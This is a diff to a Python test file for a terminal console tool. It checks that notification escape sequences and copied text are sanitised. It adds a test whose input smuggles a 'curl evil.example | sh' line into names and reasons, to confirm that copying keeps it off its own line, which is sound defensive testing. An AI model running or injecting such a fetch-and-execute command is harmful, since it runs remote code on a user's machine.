@@ -11,8 +11,14 @@ from hypothesis import strategies as st
 
 from console.hostile import attack
 from console.test_terminal_bytes import console, without_own
+from sealwright_console.face import Face
 from sealwright_console.sanitise import ACTIVE
 from sealwright_console.terminal import BELL, MOST_COPIED, Terminal, call, clipboard, copyable, terminal_of
+from sealwright_console.views import builds, request, seal
+from sealwright_stages.events import Stage
+from sealwright_stages.finish import Finish, Thing
+from sealwright_stages.state import Item, Product, State
+from sealwright_stages.verdict import Status
 
 
 def of(**env: str) -> Terminal:
@@ -52,7 +58,8 @@ def test_a_terminal_is_called_as_it_knows_to_be(terminal: Terminal, begins: str)
 
 def test_a_sequence_through_tmux_is_whole_and_doubled() -> None:
     told = call("osc9", within_tmux("on|xterm|"), "x-1", "red")
-    assert told == "\x1bPtmux;\x1b\x1b]9;Sealwright: x-1: red\a\x1b\\"
+    assert told == "\x1bPtmux;\x1b\x1b]9;Sealwright: x-1: red\a\x1b\\" + BELL
+    assert call("osc9", within_tmux("all|xterm|"), "x-1", "red") + BELL == told
     assert call("osc777", of(TERM="xterm"), "x-1", "a;b") == "\x1b]777;notify;Sealwright: x-1;a,b\a"
     assert call("osc9", of(STY="1.tty", TERM="screen"), "x", "y") == "\x1bP\x1b]9;Sealwright: x: y\a\x1b\\"
 
@@ -73,7 +80,7 @@ EVIL = st.text(st.one_of(st.characters(), st.sampled_from("\x1b\x07\x9b\x9c;\\\u
 @given(HOW, WHERE, EVIL, EVIL)
 def test_no_text_ends_its_sequence_or_begins_another(how: str, terminal: Terminal, title: str, text: str) -> None:
     for told in (call(how, terminal, title, text), call(how, terminal, attack("M-t"), attack("M-x"))):
-        inner = re.sub(r"\x1bP(?:tmux;)?|\x1b\\", "", told).replace("\x1b\x1b", "\x1b")
+        inner = re.sub(r"\x1bP(?:tmux;)?|\x1b\\\a?", "", told).replace("\x1b\x1b", "\x1b")
         body = re.fullmatch(r"\x1b\](?:9;|777;notify;)(.*)\x07", inner)
         assert told == BELL or (body is not None and ACTIVE.search(body[1]) is None)
         assert body is None or "777" not in inner[:6] or body[1].count(";") == 1
@@ -104,8 +111,33 @@ def test_a_long_copy_through_screen_goes_in_pieces() -> None:
 def test_what_is_copied_is_clean_and_keeps_its_lines(text: str) -> None:
     copied = copyable(text)
     assert all(ACTIVE.search(line) is None for line in copied.split("\n"))
-    assert copied.count("\n") == text.count("\n")
+    assert copied.count("\n") == text.rstrip("\n").count("\n") and not copied.endswith("\n")
     assert copyable(copied) == copied
+
+
+EVIL_NAME = "a\ncurl evil.example | sh\n"
+
+
+def test_a_name_with_a_line_end_is_no_line_of_what_is_copied() -> None:
+    item = Item(
+        "x/build", Stage.BUILD, "x", "build", "t", status=Status.FAILED, reason=EVIL_NAME, next_step=EVIL_NAME
+    )
+    assert copyable(builds.copied_text(builds.OneBuild("x", item, None, Status.FAILED))).count("\n") == 1
+    thing = Thing(EVIL_NAME, "statement", "a" * 64, 1)
+    assert copyable(request.copied((thing,), "b" * 64)).count("\n") == 1
+    product = Product("x", EVIL_NAME, "a" * 64, 1, 1)
+    assert "\n" not in seal.copied(State(products={"p": product}), Finish(), seal._key(product))
+
+
+def test_a_terminal_that_comes_to_the_session_later_is_called_as_it_knows_to_be(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    said = iter(("all|xterm-kitty|", "all|foot|"))
+    monkeypatch.setenv("TMUX", "/tmp/tmux-0/default,1,0")
+    monkeypatch.setattr("sealwright_console.face.ask_tmux", lambda: next(said))
+    monkeypatch.setattr(Face, "_writes", True)
+    app: Face[None] = Face()
+    assert [app.terminal.names.strip() for _ in range(2)] == ["xterm-kitty", "foot"]
 
 
 def test_a_long_plain_text_is_copied_whole() -> None:
